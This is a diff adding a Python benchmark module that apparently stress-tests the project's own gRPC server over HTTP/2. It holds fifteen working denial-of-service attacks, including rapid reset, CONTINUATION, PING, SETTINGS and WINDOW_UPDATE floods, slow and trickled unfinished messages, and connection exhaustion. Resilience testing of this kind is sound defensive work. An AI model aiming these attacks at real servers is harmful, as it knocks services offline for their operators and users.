@@ -1,0 +1,343 @@
+"""The attacks: what a client with a certificate, and without any registered key, can do to a transport.
+
+Each is a coroutine that goes on until a moment, as hard as it can; connections that the server ends are opened again.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import secrets
+import ssl
+import time
+from collections import Counter
+from collections.abc import Awaitable, Callable, Coroutine
+from contextlib import suppress
+from dataclasses import dataclass, field
+from typing import Any
+
+from benchmarks.attacks.wire import WINDOW, Connection, Target, data_frame, header_block, headers_frame, message
+from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
+from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame
+
+from tallystick.crypto import sign_request
+
+QUERY = "/tallystick.v1.InquiryService/QueryCreditHistory"
+SUBMIT = "/tallystick.v1.ReportingService/SubmitReports"
+CHECKPOINT = "/tallystick.v1.AuditService/GetCheckpoint"
+WATCH = "/grpc.health.v1.Health/Watch"
+REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
+STREAMS = 128
+"""Streams of one connection that the server lets be open at once."""
+CANCEL = 0x8
+CHUNK = 16_384
+MiB = 1024 * 1024
+BURST = 200
+"""Frames sent in one write."""
+RECONNECT_SECONDS = 0.02
+
+
+@dataclass(slots=True)
+class Attack:
+    """One run of one attack."""
+
+    target: Target
+    until: float
+    """By time.monotonic()."""
+    counts: Counter[str] = field(default_factory=Counter)
+    context: ssl.SSLContext = field(init=False)
+
+    def __post_init__(self) -> None:
+        self.context = self.target.context()
+
+    @property
+    def going(self) -> bool:
+        """Whether there is time left."""
+        return time.monotonic() < self.until
+
+    def block(self, path: str, *more: tuple[str, str]) -> bytes:
+        """The headers of a call."""
+        return header_block(path, self.target.port, *more)
+
+    async def on(self, connections: int, what: Callable[[Connection], Awaitable[None]], *, reads: bool = True) -> None:
+        """Does something on so many connections at once, and again when the server ends one."""
+
+        async def one() -> None:
+            while self.going:
+                try:
+                    connection = await Connection.start(self.target, self.context, self.counts, reads=reads)
+                except (OSError, ssl.SSLError):
+                    self.counts["connections refused"] += 1
+                    await asyncio.sleep(RECONNECT_SECONDS)
+                    continue
+                try:
+                    with suppress(OSError, ssl.SSLError):
+                        async with asyncio.timeout(max(self.until - time.monotonic(), 0)):
+                            await what(connection)
+                finally:
+                    connection.close()
+                await asyncio.sleep(RECONNECT_SECONDS)
+
+        async with asyncio.TaskGroup() as tasks:
+            for _ in range(connections):
+                tasks.create_task(one())
+
+
+async def headers_only(attack: Attack) -> None:
+    """26 connections with 1,000 streams each that send headers and nothing else; a stream that ends is begun again."""
+    blocks = [attack.block(path) for path in (QUERY, CHECKPOINT, SUBMIT)]
+
+    async def squat(connection: Connection) -> None:
+        while True:
+            await connection.below(1000)
+            frames = []
+            while connection.open < 1000 and len(frames) < BURST:
+                number = connection.stream()
+                frames.append(headers_frame(number, blocks[number % 3]))
+            await connection.send(b"".join(frames))
+
+    await attack.on(26, squat)
+
+
+async def _unfinished(attack: Attack, connections: int, streams: int, *, trickle: bool) -> None:
+    block, length = attack.block(SUBMIT), 4 * MiB
+    body = secrets.token_bytes(CHUNK)
+
+    async def fill(connection: Connection) -> None:
+        """All but the last byte of every message, as far as the server's windows let it; or a byte at a time."""
+        numbers = [connection.stream() for _ in range(streams)]
+        await connection.send(b"".join(headers_frame(number, block) + data_frame(number, message(length, b"")) for number in numbers))
+        left = dict.fromkeys(numbers, length - 1)
+        while left:
+            for number in list(left):
+                size = 1 if trickle else min(CHUNK, left[number])
+                await connection.send(data_frame(number, body[:size]))
+                attack.counts["bytes of messages"] += size
+                left[number] -= size
+                if not left[number]:
+                    del left[number]
+            if trickle:
+                await asyncio.sleep(0.2)
+            if connection.open <= 0:
+                return
+        await connection.ended()
+
+    await attack.on(connections, fill)
+
+
+async def unfinished_on_one(attack: Attack) -> None:
+    """300 messages of 4 MiB on one connection, whose last byte never comes."""
+    await _unfinished(attack, 1, 300, trickle=False)
+
+
+async def unfinished_on_several(attack: Attack) -> None:
+    """As many on each of eight connections."""
+    await _unfinished(attack, 8, 300, trickle=False)
+
+
+async def trickled(attack: Attack) -> None:
+    """The same, five bytes a second."""
+    await _unfinished(attack, 8, 300, trickle=True)
+
+
+async def rapid_reset(attack: Attack) -> None:
+    """Streams begun and reset at once, as fast as the network takes them."""
+    block = attack.block(QUERY)
+
+    async def reset(connection: Connection) -> None:
+        while True:
+            frames = []
+            for _ in range(BURST):
+                number = connection.stream()
+                frames += [headers_frame(number, block), RstStreamFrame(number, error_code=CANCEL).serialize()]
+            await connection.send(b"".join(frames))
+
+    await attack.on(8, reset)
+
+
+async def idle_connections(attack: Attack) -> None:
+    """5,000 connections that do nothing, TLS and first settings done."""
+
+    async def idle(connection: Connection) -> None:
+        await connection.ended()
+
+    slots = asyncio.Semaphore(32)
+
+    async def one() -> None:
+        while attack.going:
+            try:
+                async with slots:
+                    connection = await Connection.start(attack.target, attack.context, attack.counts)
+            except (OSError, ssl.SSLError):
+                attack.counts["connections refused"] += 1
+                await asyncio.sleep(0.1)
+                continue
+            try:
+                with suppress(TimeoutError):
+                    async with asyncio.timeout(max(attack.until - time.monotonic(), 0)):
+                        await idle(connection)
+            finally:
+                connection.close()
+
+    async with asyncio.TaskGroup() as tasks:
+        for _ in range(5000):
+            tasks.create_task(one())
+
+
+async def silent_sockets(attack: Attack) -> None:
+    """3,000 connections that never begin with TLS."""
+
+    async def one() -> None:
+        while attack.going:
+            try:
+                reader, writer = await asyncio.open_connection("127.0.0.1", attack.target.port)
+            except OSError:
+                attack.counts["connections refused"] += 1
+                await asyncio.sleep(0.1)
+                continue
+            attack.counts["connections"] += 1
+            try:
+                with suppress(OSError):
+                    async with asyncio.timeout(max(attack.until - time.monotonic(), 0)):
+                        await reader.read()
+                        attack.counts["connections ended by the server"] += 1
+            finally:
+                writer.transport.abort()
+
+    async with asyncio.TaskGroup() as tasks:
+        for _ in range(3000):
+            tasks.create_task(one())
+
+
+async def handshakes(attack: Attack) -> None:
+    """TLS handshakes, one after the other on 16 lanes."""
+
+    async def leave(_: Connection) -> None:
+        return
+
+    await attack.on(16, leave)
+
+
+async def wrong_signatures(attack: Attack) -> None:
+    """Whole messages under well-formed signatures of an unknown key, on 16 connections as full as they may be."""
+    data = secrets.token_bytes(300)
+    key = Ed25519PrivateKey.generate()
+    signed = sign_request(key, path=QUERY, message=data, audience="exchange.example/log", created=int(time.time())).metadata
+    block = attack.block(QUERY, *signed)
+    body = message(len(data), data)
+
+    async def call(connection: Connection) -> None:
+        while True:
+            await connection.below(STREAMS)
+            frames = []
+            while connection.open < STREAMS:
+                number = connection.stream()
+                frames += [headers_frame(number, block), data_frame(number, body, end=True)]
+            await connection.send(b"".join(frames))
+
+    await attack.on(16, call)
+
+
+async def open_streams(attack: Attack) -> None:
+    """Health/Watch and reflection, held open without a question, and begun again when they end."""
+    blocks = (attack.block(WATCH), attack.block(REFLECTION))
+    whole = message(0, b"")
+
+    async def hold(connection: Connection) -> None:
+        while True:
+            await connection.below(STREAMS)
+            frames = []
+            while connection.open < STREAMS:
+                number = connection.stream()
+                frames.append(headers_frame(number, blocks[number // 2 % 2]))
+                if number // 2 % 2 == 0:
+                    frames.append(data_frame(number, whole, end=True))
+            await connection.send(b"".join(frames))
+
+    await attack.on(8, hold)
+
+
+async def _repeat(attack: Attack, frames: bytes, *, reads: bool) -> None:
+    async def flood(connection: Connection) -> None:
+        while True:
+            await connection.send(frames)
+            attack.counts["bursts"] += 1
+
+    await attack.on(8, flood, reads=reads)
+
+
+async def pings(attack: Attack) -> None:
+    """PING after PING."""
+    await _repeat(attack, PingFrame(0, opaque_data=b"12345678").serialize() * BURST, reads=True)
+
+
+async def settings(attack: Attack) -> None:
+    """SETTINGS that change a value each time, with the acknowledgements left unread."""
+    frames = b"".join(SettingsFrame(0, settings={4: 65_535 + n % 2}).serialize() for n in range(BURST))
+    await _repeat(attack, frames, reads=False)
+
+
+async def window_updates(attack: Attack) -> None:
+    """WINDOW_UPDATE by one byte, on a stream that is open and on the connection."""
+    block = attack.block(QUERY)
+
+    async def flood(connection: Connection) -> None:
+        number = connection.stream()
+        frames = WindowUpdateFrame(number, window_increment=1).serialize() + WindowUpdateFrame(0, window_increment=1).serialize()
+        await connection.send(headers_frame(number, block))
+        while True:
+            await connection.send(frames * BURST)
+            attack.counts["bursts"] += 1
+
+    await attack.on(8, flood)
+
+
+async def continuations(attack: Attack) -> None:
+    """Headers that never end: CONTINUATION after CONTINUATION."""
+    block = attack.block(QUERY)
+    more = header_block("/", 0, ("x-padding", "a" * 8000))
+
+    async def flood(connection: Connection) -> None:
+        number = connection.stream()
+        await connection.send(HeadersFrame(number, block, flags=[]).serialize())
+        frames = ContinuationFrame(number, more).serialize() * 8
+        while True:
+            await connection.send(frames)
+            attack.counts["bursts"] += 1
+
+    await attack.on(8, flood)
+
+
+async def large_headers(attack: Attack) -> None:
+    """Calls with 15 KB of headers each, as many as fit."""
+    block = attack.block(QUERY, *((f"x-{n}", "a" * 500) for n in range(30)))
+
+    async def call(connection: Connection) -> None:
+        while True:
+            await connection.below(STREAMS)
+            frames = []
+            while connection.open < STREAMS and len(frames) < BURST:
+                frames.append(headers_frame(connection.stream(), block))
+            await connection.send(b"".join(frames))
+
+    await attack.on(8, call)
+
+
+ATTACKS: dict[str, Callable[[Attack], Coroutine[Any, Any, None]]] = {
+    "headers only": headers_only,
+    "unfinished, one connection": unfinished_on_one,
+    "unfinished, eight": unfinished_on_several,
+    "trickled": trickled,
+    "rapid reset": rapid_reset,
+    "idle connections": idle_connections,
+    "silent sockets": silent_sockets,
+    "handshakes": handshakes,
+    "wrong signatures": wrong_signatures,
+    "open streams": open_streams,
+    "PING": pings,
+    "SETTINGS": settings,
+    "WINDOW_UPDATE": window_updates,
+    "CONTINUATION": continuations,
+    "large headers": large_headers,
+}
+
+__all__ = ["ATTACKS", "WINDOW", "Attack"]
